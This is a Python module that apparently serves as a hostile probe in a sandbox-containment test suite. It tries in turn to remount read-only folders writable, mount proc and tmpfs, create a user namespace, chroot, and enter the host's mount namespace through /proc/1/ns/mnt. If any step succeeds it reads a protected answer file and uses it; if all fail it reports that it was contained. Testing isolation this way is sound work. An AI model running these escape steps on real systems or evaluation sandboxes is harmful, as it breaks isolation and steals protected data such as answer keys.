"""Tries to change its mounts: remount its read-only folders writable, mount a new file system,
create a user namespace (which would grant mount rights inside it), chroot, and enter the host's
namespaces through /proc/1/ns."""
import ctypes
import os

from hostile import TARGETS, attempt, contained, use

libc = ctypes.CDLL(None, use_errno=True)
MS_REMOUNT, MS_BIND = 32, 4096
CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000


def _check(rc):
    if rc != 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    return True


def _remount_rw(path):
    _check(libc.mount(None, path.encode(), None, MS_REMOUNT | MS_BIND, None))
    open(os.path.join(path, TARGETS["marker_name"]), "w").write("x")
    return f"remounted {path} writable"


def _new_userns_then_bind():
    _check(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS))
    _check(libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None))
    return "created a user namespace and mounted in it"


def _setns_host():
    fd = os.open("/proc/1/ns/mnt", os.O_RDONLY)
    _check(libc.setns(fd, 0))
    return open(TARGETS["answer_file"], "rb").read()


def run(problem):
    steps = [("remount submission", lambda: _remount_rw("/submission")),
             ("remount /usr", lambda: _remount_rw("/usr")),
             ("mount proc", lambda: _check(libc.mount(b"proc", b"/tmp", b"proc", 0, None)) and "mounted proc"),
             ("userns", _new_userns_then_bind),
             ("chroot", lambda: os.chroot("/tmp") or "chrooted"),
             ("setns", _setns_host)]
    for label, step in steps:
        loot = attempt(label, step)
        if loot:
            return use(loot, problem)
    contained()
